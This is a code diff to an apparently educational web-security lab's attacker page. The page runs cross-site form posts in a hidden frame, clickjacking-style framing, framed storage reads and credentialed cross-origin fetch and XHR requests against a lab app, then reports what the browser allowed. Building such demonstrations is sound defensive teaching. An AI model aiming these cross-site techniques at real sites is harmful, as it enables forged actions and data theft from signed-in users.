@@ -1,11 +1,11 @@
 /**
  * What the attacker's page runs. Each attack does what any page could, and says what it has heard; the server assesses.
- * @import { Work } from './addresses.js'
+ * @import { Report, Work } from './addresses.js'
  */
 import { addressOf, formAddressOf, pageOf, signInAddressOf } from './addresses.js';
 import { setAndGetCookies, visitAndPost } from './visits.js';
 
-/** @type {Record<string, (work: Work) => Promise<string[]>>} */
+/** @type {Record<string, (work: Work) => Promise<Report>>} */
 const attacks = {
   /** A form in a hidden frame, as any page can send: no header can be added. */
   'sibling-form': (work) => postForm(formAddressOf(work)),
@@ -14,19 +14,29 @@ const attacks = {
   'read-storage': (work) => hearPage(pageOf(work)),
   'injected-script': (work) => hearPage(pageOf(work)),
   /** What was shown says so. */
-  framing: (work) => hearPage(work.weakened ? pageOf(work) : `${work.origins['app']}/lab`),
+  framing: async (work) => {
+    const { heard } = await hearPage(work.weakened ? pageOf(work) : `${work.origins['app']}/lab`);
+    const says = heard.length > 0 ? 'shows it in the frame, signed in' : 'shows nothing in the frame';
+    return { heard, remarks: [{ by: 'browser', says }] };
+  },
   'cookie-attributes': (work) => setAndGetCookies(work),
   /** By fetch and as axios does it; then with the header that the app's own requests have. */
-  'neighbour-script': async (work) => [
-    await hear(addressOf(work, 'attacker, by fetch without cookies'), { credentials: 'omit' }),
-    await hearByXhr(addressOf(work, 'attacker, by axios without cookies'), false),
-    await hear(addressOf(work, 'attacker, by fetch'), { credentials: 'include' }),
-    await hearByXhr(addressOf(work, 'attacker, by axios'), true),
-    await hear(addressOf(work, 'attacker, with X-CSRF'), {
-      credentials: 'include',
-      headers: { 'X-CSRF': '1' },
-    }),
-  ],
+  'neighbour-script': async (work) => {
+    const heard = [
+      await hear(addressOf(work, 'attacker, by fetch without cookies'), { credentials: 'omit' }),
+      await hearByXhr(addressOf(work, 'attacker, by axios without cookies'), false),
+      await hear(addressOf(work, 'attacker, by fetch'), { credentials: 'include' }),
+      await hearByXhr(addressOf(work, 'attacker, by axios'), true),
+      await hear(addressOf(work, 'attacker, with X-CSRF'), {
+        credentials: 'include',
+        headers: { 'X-CSRF': '1' },
+      }),
+    ];
+    const isRead = heard.map((each) => each !== 'nothing');
+    const says = `lets the script read ${isRead.filter(Boolean).length} of ${isRead.length} answers`;
+    const unsent = ', and does not send the request with X-CSRF: it has asked first (a preflight)';
+    return { heard, remarks: [{ by: 'browser', says: isRead.at(-1) ? says : `${says}${unsent}` }] };
+  },
 };
 
 /** At the twin, whose data only somebody signed in can read. */
@@ -40,7 +50,7 @@ async function signVictimIn(work) {
   frame.remove();
 }
 
-/** @param {string} action @returns {Promise<string[]>} */
+/** @param {string} action @returns {Promise<Report>} */
 async function postForm(action) {
   const frame = document.createElement('iframe');
   frame.name = 'target';
@@ -53,7 +63,7 @@ async function postForm(action) {
   await Promise.race([loaded(frame, () => form.submit()), fetch('/attacker/answered')]);
   frame.remove();
   form.remove();
-  return [];
+  return { heard: [], remarks: [] };
 }
 
 /** @param {HTMLIFrameElement} frame @param {() => void} act @returns {Promise<void>} */
@@ -67,19 +77,19 @@ function loaded(frame, act) {
 /** What a page in a frame is given to come up and to speak. */
 const framedMs = 3_000;
 
-/** What a script of a page in a frame tells; nothing, if the browser does not show it there. @param {string} address @returns {Promise<string[]>} */
+/** What a script of a page in a frame tells; nothing, if the browser does not show it there. @param {string} address @returns {Promise<Report>} */
 function hearPage(address) {
   return new Promise((resolve) => {
     const frame = document.createElement('iframe');
     frame.src = address;
-    const done = (/** @type {string[]} */ heard) => {
+    const done = (/** @type {Report} */ report) => {
       clearTimeout(timer);
       removeEventListener('message', hearIt);
       frame.remove();
-      resolve(heard);
+      resolve(report);
     };
-    const hearIt = (/** @type {MessageEvent<string[]>} */ { data }) => done(data);
-    const timer = setTimeout(() => done([]), framedMs);
+    const hearIt = (/** @type {MessageEvent<Report>} */ { data }) => done(data);
+    const timer = setTimeout(() => done({ heard: [], remarks: [] }), framedMs);
     addEventListener('message', hearIt);
     document.body.append(frame);
   });
@@ -127,11 +137,11 @@ for (;;) {
   }
   say(`Attacks: ${work.attack}`);
   if (work.weakened && needsVictim.has(work.attack)) await signVictimIn(work);
-  const heard = await attacks[work.attack]?.(work);
+  const report = await attacks[work.attack]?.(work);
   await fetch('/attacker/report', {
     method: 'POST',
     headers: { 'Content-Type': 'application/json' },
-    body: JSON.stringify({ attempt: work.attempt, heard: heard ?? [] }),
+    body: JSON.stringify({ attempt: work.attempt, ...report }),
   });
   say('Done. Leave this window open: the next attack needs it too.');
 }
